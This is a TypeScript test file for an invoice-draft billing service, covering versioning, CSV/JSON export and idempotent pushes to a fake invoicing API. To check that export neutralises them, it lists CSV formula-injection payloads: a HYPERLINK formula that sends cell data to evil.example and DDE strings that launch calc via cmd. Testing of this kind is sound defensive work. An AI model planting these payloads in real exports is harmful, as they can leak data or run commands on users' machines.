import { generateInvoiceDraft, draftAsCsv, draftAsJson } from '../../activities/billing/invoice-draft-service';
import { pushInvoiceDraft } from '../../activities/billing/invoice-push';
import { RestInvoiceAdapter } from '../../activities/billing/rest-invoice-adapter';
import { recordTimeEntry } from '../../activities/billing/time-entry-service';
import { OperationalError } from '../../lib/errors';
import { toCsv } from '../../lib/billing/csv';
import { createTestContext, type TestContext } from '../support/context';
import { InvoiceApiFake } from './support/invoice-fake';
import { at, billingFixture, system } from './support/fixture';


/** Invoice drafts (versions, reproducibility), CSV/JSON export with hostile text, push to a local fake invoicing API. */
describe('invoice drafts (real PostgreSQL, local fake invoicing API)', () => {
  let ctx: TestContext;
  let fake: InvoiceApiFake;
  beforeAll(async () => {
    ctx = await createTestContext();
    fake = await new InvoiceApiFake('tok_test_123').start();
  });
  afterAll(async () => {
    await fake?.close();
    await ctx?.close();
  });

  const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+SUM(1,2)', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1)', '\tTAB start', '\rCR start'];

  async function fixedPlusTm() {
    const f = await billingFixture(ctx.prisma);
    await f.contract({
      name: 'Better plan',
      type: 'MONTHLY_FIXED',
      startsOn: '2026-01-01',
      terms: { plan: 'better', includedServices: ['monitoring', 'antivirus', 'patching'], deviceCount: 25, monthlyPriceCents: 125000, outOfScopeRateCents: 11000, rounding: { incrementMinutes: 15, minimumMinutes: 0 } },
    });
    return f;
  }

  it('builds the lines of a month by hand-computed rules, keeps the same version for the same data, versions changes', async () => {
    const f = await fixedPlusTm();
    const printer = await f.ticket('Printer jam', { category: 'hardware' });
    const migration = await f.ticket('Migrate file server');
    await recordTimeEntry({ prisma: ctx.prisma }, { ticketId: printer.id, userId: f.tech.id, minutes: 20, sourceKey: `i-${f.tag}-1`, startedAt: at('2026-03-03T09:00:00Z') }); // included, 30 billed
    await recordTimeEntry({ prisma: ctx.prisma }, { ticketId: migration.id, userId: f.tech.id, minutes: 100, sourceKey: `i-${f.tag}-2`, startedAt: at('2026-03-04T09:00:00Z'), outOfScope: true }); // 105 min at 110.00/h = 192.50

    const first = await generateInvoiceDraft(ctx, system, f.client.id, '2026-03');
    expect(first.created).toBe(true);
    expect(first.draft.version).toBe(1);
    const lines = draftAsJson(first.draft, f.client).lines;
    expect(lines.map((l) => [l.kind, l.description, l.quantity, l.amountCents])).toEqual([
      ['FIXED_FEE', 'Better plan: better plan, 25 devices (monitoring, antivirus, patching)', 1, 125000],
      ['INCLUDED_TIME', 'Better plan: time included in the fixed fee', 0.5, 0],
      ['OUT_OF_SCOPE', 'Migrate file server', 1.75, 19250],
    ]);
    expect(first.draft.totalCents).toBe(125000 + 19250);

    const again = await generateInvoiceDraft(ctx, system, f.client.id, '2026-03');
    expect(again).toEqual({ draft: first.draft, created: false });

    await recordTimeEntry({ prisma: ctx.prisma }, { ticketId: migration.id, userId: f.tech.id, minutes: 60, sourceKey: `i-${f.tag}-3`, startedAt: at('2026-03-05T09:00:00Z'), outOfScope: true });
    const second = await generateInvoiceDraft(ctx, system, f.client.id, '2026-03');
    expect(second.created).toBe(true);
    expect(second.draft.version).toBe(2);
    expect(second.draft.totalCents).toBe(125000 + 30250); // 165 min at 110.00/h
    // Version 1 is unchanged.
    expect((await ctx.prisma.invoiceDraft.findUniqueOrThrow({ where: { id: first.draft.id } })).totalCents).toBe(144250);
  });

  it('exports CSV with hostile subjects neutralised (= + - @ TAB CR) and JSON with the same numbers', async () => {
    const f = await billingFixture(ctx.prisma);
    await ctx.prisma.client.update({ where: { id: f.client.id }, data: { name: '=cmd|"/C calc"!A1' } });
    await f.contract({ name: '@evil contract', type: 'TIME_AND_MATERIALS', startsOn: '2026-01-01', terms: { hourlyRateCents: 6000 } });
    for (const [i, subject] of HOSTILE.entries()) {
      const t = await f.ticket(subject);
      await recordTimeEntry({ prisma: ctx.prisma }, { ticketId: t.id, userId: f.tech.id, minutes: 30, sourceKey: `h-${f.tag}-${i}`, startedAt: at('2026-04-02T09:00:00Z') });
    }
    const { draft } = await generateInvoiceDraft(ctx, system, f.client.id, '2026-04');
    const client = await ctx.prisma.client.findUniqueOrThrow({ where: { id: f.client.id } });
    const csv = draftAsCsv(draft, client);
    const records = parseCsv(csv);
    expect(records[0]).toEqual(['invoice', 'client', 'period', 'line', 'kind', 'contract', 'ticket', 'description', 'quantity', 'unit', 'unit_price', 'amount', 'currency']);
    const body = records.slice(1);
    expect(body).toHaveLength(HOSTILE.length);
    // No cell of the file starts with a formula character.
    for (const row of records) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(body.map((r) => r[7]).sort()).toEqual(HOSTILE.map((s) => `'${s}`).sort());
    expect(body[0][1]).toBe(`'=cmd|"/C calc"!A1`);
    expect(body[0][5]).toBe("'@evil contract");
    expect(body.map((r) => r[11])).toEqual(HOSTILE.map(() => '30'));
    expect(draftAsJson(draft, client).lines.map((l) => l.description).sort()).toEqual([...HOSTILE].sort()); // JSON keeps the text as it is
  });

  it('csv encoder: formula starts, quotes, commas and newlines', () => {
    expect(toCsv(['a', 'b'], [['=1+2', 'plain'], ['x,"y"', 'line\nbreak'], [-5, '-5']])).toBe('a,b\r\n\'=1+2,plain\r\n"x,""y""","line\nbreak"\r\n-5,\'-5\r\n');
  });

  it('pushes a draft to the invoicing API once: re-push and a lost answer never make a second invoice', async () => {
    const f = await fixedPlusTm();
    const { draft } = await generateInvoiceDraft(ctx, system, f.client.id, '2026-05');
    const billing = new RestInvoiceAdapter({ url: fake.url, token: fake.token, timeoutMs: 5_000 });

    fake.loseNextCreateAnswer = true;
    await expect(pushInvoiceDraft({ prisma: ctx.prisma, billing }, system, draft.id)).rejects.toBeInstanceOf(OperationalError);
    expect((await ctx.prisma.invoiceDraft.findUniqueOrThrow({ where: { id: draft.id } })).externalId).toBeNull();
    const pushed = await pushInvoiceDraft({ prisma: ctx.prisma, billing }, system, draft.id);
    expect(pushed).toMatchObject({ externalSystem: 'rest-invoice', pushed: false });
    const again = await pushInvoiceDraft({ prisma: ctx.prisma, billing }, system, draft.id);
    expect(again).toEqual({ ...pushed, pushed: false });
    const number = `${f.client.code.toUpperCase()}-2026-05-v1`;
    const mine = fake.invoices.filter((i) => i.number === number);
    expect(mine).toHaveLength(1);
    expect(pushed.externalId).toBe(mine[0].id);
    expect(mine[0].body).toMatchObject({ number, currency: 'EUR', total: 1250, client: { reference: f.client.code }, line_items: [{ quantity: 1, cost: 1250, line_total: 1250, kind: 'FIXED_FEE' }] });

    // A fresh draft of another month: created on the first push.
    const june = await generateInvoiceDraft(ctx, system, f.client.id, '2026-06');
    expect(await pushInvoiceDraft({ prisma: ctx.prisma, billing }, system, june.draft.id)).toMatchObject({ pushed: true });
    // A wrong token is a permanent refusal, not retried.
    const july = await generateInvoiceDraft(ctx, system, f.client.id, '2026-07');
    await expect(pushInvoiceDraft({ prisma: ctx.prisma, billing: new RestInvoiceAdapter({ url: fake.url, token: 'wrong' }) }, system, july.draft.id)).rejects.toMatchObject({ code: 'EXTERNAL_REFUSED' });
  });
});

/** A small RFC 4180 reader for the test (quoted cells, doubled quotes, CRLF records). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  return rows;
}
